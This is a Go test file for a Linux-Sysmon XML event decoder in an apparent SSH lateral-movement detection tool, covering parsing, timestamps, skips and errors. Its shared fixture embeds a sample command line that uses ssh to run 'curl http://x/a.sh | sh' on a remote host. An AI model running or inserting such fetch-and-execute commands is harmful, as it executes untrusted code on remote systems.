package decode

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/sshlateral/sshlateral/processor"
)

// sysmonXML builds an EventID 1 element in the Linux-Sysmon v1.1 layout.
// system and data are inserted verbatim.
func sysmonXML(eventID, system, data string) string {
	return `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>` + eventID +
		`</EventID><Version>5</Version>` + system + `<Channel>Linux-Sysmon/Operational</Channel></System><EventData>` + data +
		`</EventData></Event>`
}

const (
	stdSystem = `<TimeCreated SystemTime="2026-11-02T10:00:00.250000000Z"/><Computer>web-01</Computer>`
	stdData   = `<Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-02 10:00:00.100</Data><Data Name="ProcessId">4242</Data>` +
		`<Data Name="Image">/usr/bin/ssh</Data><Data Name="OriginalFileName">-</Data>` +
		`<Data Name="CommandLine">ssh -oBatchMode=yes 10.0.0.1 "curl http://x/a.sh | sh &amp;"</Data><Data Name="User">root</Data>` +
		`<Data Name="ParentProcessId">4000</Data><Data Name="ParentImage">/usr/bin/bash</Data><Data Name="ParentCommandLine">bash ./s.sh</Data>`
)

var stdEvent = processor.Event{
	Time: time.Date(2026, 11, 2, 10, 0, 0, 100e6, time.UTC),
	Dest: "web-01", User: "root", Process: `ssh -oBatchMode=yes 10.0.0.1 "curl http://x/a.sh | sh &"`,
	ProcessName: "ssh", ProcessPath: "/usr/bin/ssh", ProcessID: "4242",
	ParentProcess: "bash ./s.sh", ParentProcessName: "bash", ParentProcessPath: "/usr/bin/bash", ParentProcessID: "4000",
	OriginalFileName: "-",
}

func withEvent(f func(*processor.Event)) processor.Event {
	e := stdEvent
	f(&e)
	return e
}

func TestSysmonDecode(t *testing.T) {
	std := sysmonXML("1", stdSystem, stdData)
	for _, tc := range []struct {
		name string
		in   string
		want processor.Event
	}{
		{"bare element", std, stdEvent},
		{"rfc3164 header, crlf", "Nov  2 10:00:01 web-01 sysmon: " + std + "\r\n", stdEvent},
		{"rfc3339 header, lf", "2026-11-02T10:00:01.000001+00:00 web-01 sysmon: " + std + "\n", stdEvent},
		{
			"entities and character references",
			sysmonXML("1", `<Computer>a&amp;b&lt;&gt;&quot;&apos;</Computer>`, strings.Replace(stdData, "/usr/bin/ssh", "/usr/bin/&#115;s&#x68;", 1)),
			withEvent(func(e *processor.Event) { e.Dest = `a&b<>"'` }),
		},
		{
			"whitespace and single quotes in tags",
			`<Event ><System ><EventID >1</EventID >` + stdSystem + `</System ><EventData >` +
				strings.ReplaceAll(strings.ReplaceAll(stdData, `<Data Name="`, `<Data  Name = '`), `">`, `' >`) + `</EventData></Event >`,
			stdEvent,
		},
		{
			"dash placeholders stay, basename of - is -",
			sysmonXML("1", stdSystem, `<Data Name="UtcTime">2026-11-02 10:00:00.100</Data><Data Name="Image">-</Data><Data Name="User">-</Data><Data Name="ParentImage">-</Data>`),
			processor.Event{Time: stdEvent.Time, Dest: "web-01", User: "-", ProcessName: "-", ProcessPath: "-", ParentProcessName: "-", ParentProcessPath: "-"},
		},
		{
			"empty values are missing",
			sysmonXML("1", `<Computer></Computer>`, `<Data Name="UtcTime">2026-11-02 10:00:00.100</Data><Data Name="Image"/><Data Name="User"></Data>`),
			processor.Event{Time: stdEvent.Time},
		},
		{
			"unmapped and nameless Data, other elements ignored",
			sysmonXML("1", stdSystem+`<Security UserId="0"/><Execution ProcessID="1" ThreadID="1"><Extra>x</Extra></Execution>`,
				stdData+`<Data Name="Hashes">SHA256=00</Data><Data>free text</Data>`),
			stdEvent,
		},
		{
			"TimeCreated when UtcTime is missing",
			sysmonXML("1", stdSystem, strings.Replace(stdData, `<Data Name="UtcTime">2026-11-02 10:00:00.100</Data>`, "", 1)),
			withEvent(func(e *processor.Event) { e.Time = time.Date(2026, 11, 2, 10, 0, 0, 250e6, time.UTC) }),
		},
		{
			"TimeCreated when UtcTime is unparsable",
			sysmonXML("1", stdSystem, strings.Replace(stdData, "2026-11-02 10:00:00.100", "-", 1)),
			withEvent(func(e *processor.Event) { e.Time = time.Date(2026, 11, 2, 10, 0, 0, 250e6, time.UTC) }),
		},
		{
			"rfc3339 syslog stamp as last resort",
			"2026-11-02T11:00:01.5+01:00 web-01 sysmon: " + sysmonXML("1", `<Computer>web-01</Computer>`, strings.Replace(stdData, "2026-11-02 10:00:00.100", "-", 1)),
			withEvent(func(e *processor.Event) { e.Time = time.Date(2026, 11, 2, 10, 0, 1, 5e8, time.UTC) }),
		},
		{
			"rfc3164 syslog stamp takes the current year",
			"Nov  2 10:00:01 web-01 sysmon: " + sysmonXML("1", `<Computer>web-01</Computer>`, strings.Replace(stdData, "2026-11-02 10:00:00.100", "-", 1)),
			withEvent(func(e *processor.Event) { e.Time = time.Date(2026, 11, 2, 10, 0, 1, 0, time.UTC) }),
		},
		{
			"rfc3164 stamp far in the future belongs to last year",
			"Dec 31 23:59:59 web-01 sysmon: " + sysmonXML("1", `<Computer>web-01</Computer>`, strings.Replace(stdData, "2026-11-02 10:00:00.100", "-", 1)),
			withEvent(func(e *processor.Event) { e.Time = time.Date(2025, 12, 31, 23, 59, 59, 0, time.UTC) }),
		},
		{
			"UtcTime with a comma goes through time.Parse",
			sysmonXML("1", stdSystem, strings.Replace(stdData, "2026-11-02 10:00:00.100", "2026-11-02 10:00:00,100", 1)),
			stdEvent,
		},
		{
			"EventID with leading zero",
			sysmonXML("01", stdSystem, stdData),
			stdEvent,
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := newTestDecoder(t, FormatSysmon)
			var ev processor.Event
			out, err := d.DecodeFull([]byte(tc.in), &ev)
			if err != nil || out != OutcomeEvent {
				t.Fatalf("got %v, %v", out, err)
			}
			if diff := diffEvents(ev, tc.want); diff != "" {
				t.Fatal(diff)
			}
			ref := refDecodeSysmon([]byte(tc.in), fixedNow)
			if !ref.ok || !ref.timeOK {
				t.Fatalf("reference: %+v", ref)
			}
			if diff := diffEvents(ev, ref.event); diff != "" {
				t.Fatalf("encoding/xml disagrees: %s", diff)
			}
		})
	}
}

func TestSysmonCRInValue(t *testing.T) {
	in := sysmonXML("1", stdSystem, stdData+"<Data Name=\"ParentCommandLine\">a\r\nb\rc&#13;\nd</Data>")
	in = strings.Replace(in, `<Data Name="ParentCommandLine">bash ./s.sh</Data>`, "", 1)
	d := newTestDecoder(t, FormatSysmon)
	var ev processor.Event
	if _, err := d.DecodeFull([]byte(in), &ev); err != nil {
		t.Fatal(err)
	}
	if want := "a\nb\nc\r\nd"; ev.ParentProcess != want {
		t.Fatalf("ParentProcess %q, want %q", ev.ParentProcess, want)
	}
	if ref := refDecodeSysmon([]byte(in), fixedNow); ref.event.ParentProcess != ev.ParentProcess {
		t.Fatalf("encoding/xml reads %q", ref.event.ParentProcess)
	}
}

func TestSysmonSkips(t *testing.T) {
	for _, tc := range []struct {
		name, in, reason string
	}{
		{"network connection", sysmonXML("3", stdSystem, stdData), "event_id_3"},
		{"file delete", sysmonXML("23", stdSystem, stdData), "event_id_23"},
		{"error event", sysmonXML("255", stdSystem, ""), "event_id_255"},
		{"large id", sysmonXML("4096", stdSystem, ""), SkipEventIDOther},
		{"banner", "Oct 24 17:05:31 james-ubuntu-demo sysmon[3041]: Sysmon v1.0.0 - Monitors system events", SkipBanner},
		{"banner, single digit day", "Oct 4 17:05:31 host sysmon: Running...", SkipBanner},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, prefilter := range []bool{false, true} {
				d := newTestDecoder(t, FormatSysmon)
				var ev processor.Event
				decode := d.DecodeFull
				if prefilter {
					decode = d.Decode
				}
				out, err := decode([]byte(tc.in), &ev)
				if err != nil || out != OutcomeSkip || d.LastSkipReason() != tc.reason {
					t.Fatalf("prefilter=%v: got %v %q %v, want skip %q", prefilter, out, d.LastSkipReason(), err, tc.reason)
				}
			}
		})
	}
}

func TestSysmonSkipDoesNotAllocate(t *testing.T) {
	in := []byte(sysmonXML("5", stdSystem, stdData))
	d := newTestDecoder(t, FormatSysmon)
	var ev processor.Event
	if n := testing.AllocsPerRun(100, func() { _, _ = d.DecodeFull(in, &ev) }); n != 0 {
		t.Fatalf("%v allocations per skipped record", n)
	}
}

func TestSysmonErrors(t *testing.T) {
	std := sysmonXML("1", stdSystem, stdData)
	noTime := sysmonXML("1", `<Computer>h</Computer>`, `<Data Name="Image">/usr/bin/ssh</Data>`)
	for _, tc := range []struct {
		name    string
		in      string
		want    string
		layout  bool // errLayout: a documented restriction
		refOKID bool // encoding/xml reads it as an EventID 1 event
	}{
		{name: "truncated", in: std[:len(std)-30], want: "sysmon: missing </Event>"},
		{name: "truncated in tag", in: std[:len(std)-3], want: "sysmon: missing </Event>"},
		{name: "missing EventID", in: strings.Replace(std, "<EventID>1</EventID>", "", 1), want: "sysmon: missing EventID"},
		{name: "non-numeric EventID", in: sysmonXML("x1", stdSystem, stdData), want: `sysmon: invalid EventID "x1"`},
		{name: "EventID overflow", in: sysmonXML("4294967296", stdSystem, stdData), want: `sysmon: invalid EventID "4294967296"`},
		{name: "unknown entity", in: strings.Replace(std, "&amp;", "&nbsp;", 1), want: "sysmon: invalid character entity &nbsp;"},
		{name: "entity without semicolon", in: strings.Replace(std, "&amp;", "&amp", 1), want: "sysmon: invalid character entity (no semicolon)"},
		{name: "character reference beyond U+10FFFF", in: strings.Replace(std, "&amp;", "&#x110000;", 1), want: "sysmon: invalid character entity &#x110000;"},
		{name: "no usable time", in: noTime, want: "sysmon: no usable event time (UtcTime, TimeCreated, syslog timestamp)"},
		{name: "unquoted attribute", in: strings.Replace(std, `Name="Image"`, `Name=Image`, 1), want: "sysmon: unquoted attribute value at byte 406"},
		{name: "< in attribute", in: strings.Replace(std, `Name="Image"`, `Name="Im<age"`, 1), want: "sysmon: '<' in attribute value at byte 407"},
		{name: "root is not Event", in: "<EventX/>", want: "sysmon: no <Event> element"},
		{name: "comment", in: strings.Replace(std, "<EventData>", "<EventData><!-- x -->", 1), layout: true, refOKID: true},
		{name: "CDATA", in: strings.Replace(std, "root", "<![CDATA[root]]>", 1), layout: true, refOKID: true},
		{name: "namespace prefix", in: strings.Replace(std, "<Computer>web-01</Computer>", "<s:Computer>web-01</s:Computer>", 1), layout: true, refOKID: true},
		{name: "element inside a value", in: strings.Replace(std, ">root<", ">ro<b/>ot<", 1), layout: true, refOKID: true},
		{name: "Data outside EventData", in: strings.Replace(std, "<Channel>", `<Data Name="User">x</Data><Channel>`, 1), layout: true, refOKID: true},
		{name: "EventID twice", in: strings.Replace(std, "<Version>", "<EventID>1</EventID><Version>", 1), layout: true, refOKID: true},
		{name: "mapped Data twice", in: strings.Replace(std, "</EventData>", `<Data Name="User">x</Data></EventData>`, 1), layout: true, refOKID: true},
		{name: "data after </Event>", in: std + " junk", layout: true, refOKID: true},
		{name: "Computer twice", in: strings.Replace(std, "<Channel>", `<Computer>x</Computer><Channel>`, 1), layout: true, refOKID: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := newTestDecoder(t, FormatSysmon)
			var ev processor.Event
			out, err := d.DecodeFull([]byte(tc.in), &ev)
			if err == nil {
				t.Fatalf("got %v %+v, want an error", out, ev)
			}
			if errors.Is(err, errLayout) != tc.layout {
				t.Fatalf("err %v: errLayout = %v, want %v", err, !tc.layout, tc.layout)
			}
			if tc.want != "" && err.Error() != tc.want {
				t.Fatalf("err %q, want %q", err, tc.want)
			}
			// The restrictions are real restrictions: encoding/xml reads
			// these records.
			if tc.refOKID {
				if ref := refDecodeSysmon([]byte(tc.in), fixedNow); !ref.ok || ref.eventID != 1 {
					t.Fatalf("encoding/xml: %+v", ref)
				}
			}
		})
	}
}

func TestSyslogTime(t *testing.T) {
	now := func() time.Time { return time.Date(2027, 1, 3, 0, 0, 0, 0, time.UTC) }
	for _, tc := range []struct {
		in   string
		want time.Time
		ok   bool
	}{
		{"Jan  2 10:00:00 h sysmon: ", time.Date(2027, 1, 2, 10, 0, 0, 0, time.UTC), true},
		{"Dec 31 23:00:00 h sysmon: ", time.Date(2026, 12, 31, 23, 0, 0, 0, time.UTC), true},
		{"Feb 30 10:00:00 h sysmon: ", time.Time{}, false},
		{"Jan 2 25:00:00 h: ", time.Time{}, false},
		{"2026-06-08T05:28:19.188419+00:00 h sysmon: ", time.Date(2026, 6, 8, 5, 28, 19, 188419000, time.UTC), true},
		{"2026-06-08T05:28:19 h sysmon: ", time.Time{}, false},
		{"h sysmon: ", time.Time{}, false},
		{"", time.Time{}, false},
	} {
		t.Run(tc.in, func(t *testing.T) {
			got, ok := syslogTime([]byte(tc.in), now)
			if ok != tc.ok || !got.Equal(tc.want) {
				t.Fatalf("got %v %v, want %v %v", got, ok, tc.want, tc.ok)
			}
		})
	}
}

func TestParseUtcTime(t *testing.T) {
	for _, in := range []string{
		"2026-11-02 10:00:00.100", "2024-02-29 23:59:59.999", "0001-01-01 00:00:00.000",
		"2026-02-29 10:00:00.000", "2026-13-01 10:00:00.000", "2026-11-02 24:00:00.000", "2026-11-02 10:60:00.000",
		"2026-11-02 10:00:60.000", "2026-11-02 10:00:00,100", "2026-11-02 10:00:00.1", "2026-11-02T10:00:00.100", "",
	} {
		t.Run(in, func(t *testing.T) {
			got, ok := parseUtcTime([]byte(in))
			want, err := time.Parse(utcTimeLayout, in)
			if ok != (err == nil) || (ok && !got.Equal(want)) {
				t.Fatalf("got %v %v; time.Parse %v %v", got, ok, want, err)
			}
		})
	}
}

func TestParseRFC3339(t *testing.T) {
	for _, in := range []string{
		"2026-11-02T10:00:00Z", "2026-11-02T10:00:00.5Z", "2026-11-02T10:00:00.123456789Z", "2026-11-02T10:00:00.1234567891Z",
		"2026-11-02T10:00:00+01:30", "2026-11-02T10:00:00.25-07:00", "2026-02-29T10:00:00Z", "2024-02-29T10:00:00Z",
		"2026-11-02T24:00:00Z", "2026-11-02T10:00:00+24:00", "2026-11-02T10:00:00", "2026-11-02t10:00:00z",
		"2026-11-02T10:00:00.Z", "2026-11-02 10:00:00Z", "0000-01-01T00:00:00Z", "",
	} {
		t.Run(in, func(t *testing.T) {
			got, ok := parseRFC3339([]byte(in))
			want, err := time.Parse(time.RFC3339Nano, in)
			if ok != (err == nil) || (ok && (!got.Equal(want) || got.Location() != time.UTC)) {
				t.Fatalf("got %v %v; time.Parse %v %v", got, ok, want, err)
			}
		})
	}
}

// FuzzTimeParsers holds the hand-written time parsers to time.Parse.
func FuzzTimeParsers(f *testing.F) {
	for _, s := range []string{"2026-11-02 10:00:00.100", "2026-11-02T10:00:00.5+01:00", "2026-11-02T10:00:00Z"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got, ok := parseRFC3339([]byte(in))
		want, err := time.Parse(time.RFC3339Nano, in)
		if ok != (err == nil) || (ok && !got.Equal(want)) {
			t.Fatalf("RFC 3339 %q: got %v %v; time.Parse %v %v", in, got, ok, want, err)
		}
		got, ok = parseUtcTime([]byte(in))
		want, err = time.Parse(utcTimeLayout, in)
		if ok != (err == nil) || (ok && !got.Equal(want)) {
			t.Fatalf("UtcTime %q: got %v %v; time.Parse %v %v", in, got, ok, want, err)
		}
	})
}

func TestSysmonCorruptUtcTimeIsAnError(t *testing.T) {
	line := `Nov  2 08:00:00 host-x sysmon: <Event><System><EventID>1</EventID><TimeCreated SystemTime="2026-11-02T08:00:00.000000000Z"/><Computer>host-x</Computer></System><EventData><Data Name="UtcTime">%s</Data><Data Name="Image">/usr/bin/ssh</Data></EventData></Event>`
	cases := []struct {
		name, utc string
		wantErr   bool
	}{
		{"valid", "2026-11-02 07:59:59.123", false},
		{"dash means unknown, falls back to TimeCreated", "-", false},
		{"empty means unknown", "", false},
		{"corrupt", "yesterday", true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dec, err := NewDecoder(FormatSysmon)
			if err != nil {
				t.Fatal(err)
			}
			var ev processor.Event
			_, err = dec.DecodeFull([]byte(fmt.Sprintf(line, tc.utc)), &ev)
			if (err != nil) != tc.wantErr {
				t.Fatalf("DecodeFull error = %v, want error %v", err, tc.wantErr)
			}
		})
	}
}
